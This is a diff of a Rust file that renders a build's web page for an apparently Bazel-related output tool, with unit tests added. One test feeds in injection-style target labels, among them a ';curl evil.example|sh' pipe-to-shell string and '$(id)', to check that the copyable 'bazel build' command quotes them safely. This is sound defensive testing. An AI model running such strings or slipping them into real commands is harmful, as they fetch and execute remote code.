@@ -1,10 +1,12 @@
 //! The page of one build.
 
+use std::{borrow::Cow, collections::HashSet};
+
 use maud::{Markup, html};
 
 use super::{
-    builds::{exit, how, pending, took},
-    html::{build_path, count, encoded, name, path, span, state, time},
+    builds::{command, exit, how, took},
+    html::{build_path, count, encoded, name, path, span, state, time, word},
     outputs::{self, Wish},
 };
 use crate::{
@@ -40,11 +42,13 @@ impl Seen {
         let (invocation, targets) = service.invocation(id).await?;
         let waiting = service.waiting(id, PENDING).await.unwrap_or_default();
         let has_missing = invocation.failed > 0 || targets.iter().any(|target| target.failed > 0);
-        let missing = if has_missing {
+        let whose = lacking(&invocation, &targets);
+        let missing = if has_missing && !whose.is_empty() {
             service
                 .find_outputs(Query {
                     invocation: id.to_owned(),
                     kind: Kind::Missing,
+                    whose,
                     most: MISSING,
                     ..Query::default()
                 })
@@ -69,50 +73,79 @@ impl Seen {
     }
 }
 
-/// What the page is called.
-pub(super) fn title(build: &pb::Invocation) -> String {
-    format!("{} in {}", build.command, build.workspace)
+/// The targets that lack outputs, and the outputs that messages begin with: other builds of the output root lack others.
+fn lacking(build: &pb::Invocation, targets: &[pb::Target]) -> HashSet<String> {
+    let lack = targets.iter().filter(|target| target.failed > 0);
+    let lack = lack.map(|target| target.label.clone());
+    let named = build.errors.iter().filter_map(|error| error.split_once(": "));
+    lack.chain(named.map(|(path, _)| path.to_owned())).collect()
 }
 
-/// The page, with some of the outputs if they are recorded here.
-pub(super) fn view(seen: Seen, listed: Option<&Markup>) -> Markup {
+/// What the page is called. That does not change with it, so it has nothing that is not known yet.
+pub(super) fn title(build: &pb::Invocation) -> String {
+    match (&*build.command, &*build.workspace) {
+        ("", _) => format!("Build {}", build.invocation_id),
+        (command, "") => command.to_owned(),
+        (command, workspace) => format!("{command} in {workspace}"),
+    }
+}
+
+/// The page, with some of the outputs.
+pub(super) fn view(seen: Seen, found: &Page) -> Markup {
     let id = seen.invocation.invocation_id.clone();
-    let has_root = !seen.invocation.without_root;
     let wish = Wish::of_build(&id);
+    let is_searched = !found.without_root || !seen.invocation.state().is_over();
+    let listed = listed(&seen.invocation, found);
     let [(_, summary), (_, problems), (_, targets)] = seen.parts();
     html! {
         section #summary aria-label="Summary" { (summary) }
         section #problems aria-label="Problems" { (problems) }
-        @if has_root {
-            h2 { "Timeline" }
-            section #timeline aria-label="Timeline" data-load={ (build_path(&id)) "/timeline" } {
-                p.empty { a href={ (build_path(&id)) "/timeline" } { "Show when outputs came" } }
-            }
+        h2 { "Timeline" }
+        section #timeline aria-label="Timeline" data-load={ (build_path(&id)) "/timeline" } {
+            p.empty { a href={ (build_path(&id)) "/timeline" } { "Show when outputs came" } }
         }
         h2 { "Targets" }
         section #targets aria-label="Targets" { (targets) }
-        h2 { "Outputs" }
-        @if let Some(listed) = listed {
-            (outputs::search(&wish))
-            section #outputs aria-label="Outputs" { (listed) }
-        } @else {
-            p.empty {
-                "This build has no output root on this machine. " code { "outhaul ls " (name(&id)) } " lists what it names."
+        h2 { "Outputs of its output root" }
+        @if is_searched { (outputs::search(&wish)) }
+        section #outputs aria-label="Outputs" { (listed) }
+    }
+}
+
+/// Some of the outputs of its output root, or why there are none.
+fn listed(build: &pb::Invocation, found: &Page) -> Markup {
+    if !found.without_root {
+        return outputs::table(&Wish::of_build(&build.invocation_id), found);
+    }
+    html! {
+        p.empty {
+            @if build.state().is_over() {
+                "This build has no output root on this machine."
+                @if let Some(id) = word(&build.invocation_id) { " " code { "outhaul ls " (id) } " lists what it names." }
+            } @else {
+                "The build tool has not named this build's output root yet."
             }
         }
     }
 }
 
+/// The same as it is now.
+pub(super) async fn list(service: &Service, build: &pb::Invocation) -> Markup {
+    let wish = Wish::of_build(&build.invocation_id);
+    let found = service.find_outputs(wish.query()).await;
+    listed(build, &found.unwrap_or_default())
+}
+
 fn summary(seen: &Seen) -> Markup {
     let build = &seen.invocation;
     html! {
-        h1 { (state(how(build))) " " (name(&build.command)) " " (exit(build)) }
+        h1 { (state(how(build))) " " (command(build)) " " (exit(build)) }
         p.where { (path(&build.workspace)) }
         (waiting(&seen.waiting))
         dl.numbers {
             div { dt { "Downloaded" } dd { (show_count(build.downloaded)) small { (show_size(build.downloaded_bytes)) } } }
             div { dt { "Already present" } dd { (show_count(build.present)) } }
-            div { dt { "On their way" } dd { (show_count(build.pending)) } }
+            div { dt { "On their way" } dd { (show_count(seen.waiting.required + seen.waiting.optional)) } }
             div { dt { "Failed" } dd.bad[build.failed > 0] { (show_count(build.failed)) } }
             div { dt { "Only recorded" } dd { (show_count(build.known)) } }
             @if build.superseded > 0 {
@@ -147,8 +180,14 @@ fn waiting(waiting: &Waiting) -> Markup {
     let on_their_way = waiting.required + waiting.optional;
     html! {
         @if let Some(hold) = &waiting.hold {
-            p.hold role="status" {
-                strong { "The command waits for " (count(waiting.required, "required output")) }
+            p.hold {
+                // What changes all the time is not read out.
+                @if waiting.required > 0 {
+                    strong role="status" { "The command waits for required outputs" }
+                    " (" (show_count(waiting.required)) " on their way)"
+                } @else {
+                    strong role="status" { "The command waits for the last checks, or for the upstream event service" }
+                }
                 ", at the latest until " (time(hold.until_ms)) " (" (span(now_ms(), hold.until_ms)) " left, "
                 code { (name(&hold.limit)) } ")."
             }
@@ -174,7 +213,9 @@ fn problems(seen: &Seen) -> Markup {
     html! {
         @if is_any {
             h2 { "Problems" }
-            @if build.pending > 0 { p { (pending(build)) " are still downloading." } }
+            @if build.pending > 0 {
+                p { (count(build.pending, "required output")) (if build.pending == 1 { " is" } else { " are" }) " still downloading." }
+            }
             @let errors = other_errors(seen);
             @if !errors.is_empty() {
                 ul.errors { @for error in errors { li { (name(error)) } } }
@@ -209,7 +250,7 @@ fn missing(build: &pb::Invocation, missing: &Page) -> Markup {
                 have any more, only a build can bring back."
             }
             (outputs::rows(&missing.outputs))
-            @if missing.next.is_some() { p.more { a href=(wish.address(None)) { "All missing outputs" } } }
+            @if missing.next.is_some() { p.more { a href=(wish.address(None)) { "All missing outputs of its output root" } } }
         }
     }
 }
@@ -224,6 +265,9 @@ fn evicted(build: &pb::Invocation, missing: &Page) -> Markup {
     labels.sort_unstable();
     labels.dedup();
     let counted = build.evicted_target_count.max(labels.len() as u64);
+    // Names are others' choice.
+    labels.retain(|label| label.starts_with("//") || label.starts_with('@'));
+    let mut labels: Vec<Cow<'_, str>> = labels.into_iter().filter_map(word).collect();
     labels.truncate(AGAIN);
     let more = counted.saturating_sub(labels.len() as u64);
     html! {
@@ -235,7 +279,7 @@ fn evicted(build: &pb::Invocation, missing: &Page) -> Markup {
         }
         @if !labels.is_empty() {
             p { "To have evicted outputs again, build their targets:" }
-            pre tabindex="0" { code { "bazel build" @for label in &labels { " " (name(label)) } } }
+            pre tabindex="0" { code { "bazel build" @for label in &labels { " " (label) } } }
             @if more > 0 { p { "and " (count(more, "other target")) "." } }
         }
     }
@@ -292,7 +336,8 @@ fn target_row(build: &pb::Invocation, target: &pb::Target) -> Markup {
         tr {
             td { (state(&target.state().name())) }
             td.wide {
-                a.label href=(found) { (name(&target.label)) }
+                @if build.without_root { span.label { (name(&target.label)) } }
+                @else { a.label href=(found) { (name(&target.label)) } }
                 @if !target.aspect.is_empty() { " " small { "aspect " (name(&target.aspect)) } }
             }
             td.number data-label="required" { (show_count(target.required)) }
@@ -300,5 +345,133 @@ fn target_row(build: &pb::Invocation, target: &pb::Target) -> Markup {
             td.number data-label="only recorded" { (show_count(target.known)) }
             td.number data-label="failed" { @if target.failed > 0 { strong.bad { (show_count(target.failed)) } } @else { "0" } }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::invocation::feed::Hold;
+
+    fn running() -> pb::Invocation {
+        pb::Invocation {
+            invocation_id: "i".to_owned(),
+            state: pb::InvocationState::Running.into(),
+            ..pb::Invocation::default()
+        }
+    }
+
+    fn seen(invocation: pb::Invocation) -> Seen {
+        Seen {
+            invocation,
+            targets: vec![pb::Target {
+                label: "//a:a".to_owned(),
+                ..pb::Target::default()
+            }],
+            waiting: Waiting::default(),
+            missing: Page::default(),
+        }
+    }
+
+    #[test]
+    fn a_page_that_is_opened_early_has_all_of_its_parts_and_says_nothing_untrue() {
+        let young = pb::Invocation {
+            without_root: true,
+            ..running()
+        };
+        assert_eq!(title(&young), "Build i");
+        let nothing = Page {
+            without_root: true,
+            ..Page::default()
+        };
+        let shown = view(seen(young.clone()), &nothing).into_string();
+        for part in [
+            "id=\"summary\"",
+            "id=\"problems\"",
+            "id=\"timeline\"",
+            "id=\"targets\"",
+            "id=\"outputs\"",
+            "(not known yet)",
+            "has not named this build's output root yet",
+        ] {
+            assert!(shown.contains(part), "{part} is missing in\n{shown}");
+        }
+        assert!(!shown.contains("no output root on this machine"), "{shown}");
+        assert!(
+            !shown.contains("/outputs?build=i&amp;q="),
+            "a link that leads nowhere: {shown}"
+        );
+        let over = pb::Invocation {
+            state: pb::InvocationState::Settled.into(),
+            command: "query".to_owned(),
+            ..young
+        };
+        assert_eq!(title(&over), "query");
+        let shown = view(seen(over), &nothing).into_string();
+        assert!(
+            shown.contains("no output root on this machine") && shown.contains("outhaul ls i"),
+            "{shown}"
+        );
+    }
+
+    #[test]
+    fn a_command_to_be_copied_is_that_command_whatever_names_are_in_it() {
+        let labels = [
+            "//a:x;curl evil.example|sh",
+            "//b:it's",
+            "//c:$(id)",
+            "//d:plain-1",
+            "--run_under=evil",
+            "-x",
+            "relative",
+            "//e:two\nlines",
+            "@f//:x",
+        ];
+        let output = |label: &&str| pb::Output {
+            label: (*label).to_owned(),
+            state: pb::OutputState::Evicted.into(),
+            ..pb::Output::default()
+        };
+        let missing = Page {
+            outputs: labels.iter().map(output).collect(),
+            ..Page::default()
+        };
+        let shown = evicted(&running(), &missing).into_string();
+        let command = r"<code>bazel build '//a:x;curl evil.example|sh' '//b:it'\''s' '//c:$(id)' //d:plain-1 @f//:x</code>";
+        assert!(shown.contains(command), "{shown}");
+        assert!(shown.contains("and 4 other targets."), "{shown}");
+    }
+
+    #[test]
+    fn what_holds_the_command_is_what_it_waits_for() {
+        let mut build = seen(running());
+        build.invocation.failed = 1;
+        build.invocation.pending = 1;
+        build.waiting = Waiting {
+            hold: Some(Hold {
+                until_ms: now_ms() + 60_000,
+                limit: "--hold-timeout=60s".to_owned(),
+            }),
+            required: 1,
+            optional: 9,
+            outputs: Vec::new(),
+        };
+        let shown = summary(&build).into_string();
+        assert!(shown.contains("<dt>On their way</dt><dd>10</dd>"), "{shown}");
+        assert!(
+            shown.contains("waits for required outputs</strong> (1 on their way), at the latest until"),
+            "{shown}"
+        );
+        let shown = problems(&build).into_string();
+        assert!(
+            shown.contains("1 required output is still downloading."),
+            "{shown}"
+        );
+        build.waiting.required = 0;
+        let shown = summary(&build).into_string();
+        assert!(
+            shown.contains("the upstream event service</strong>, at the latest until"),
+            "{shown}"
+        );
     }
 }
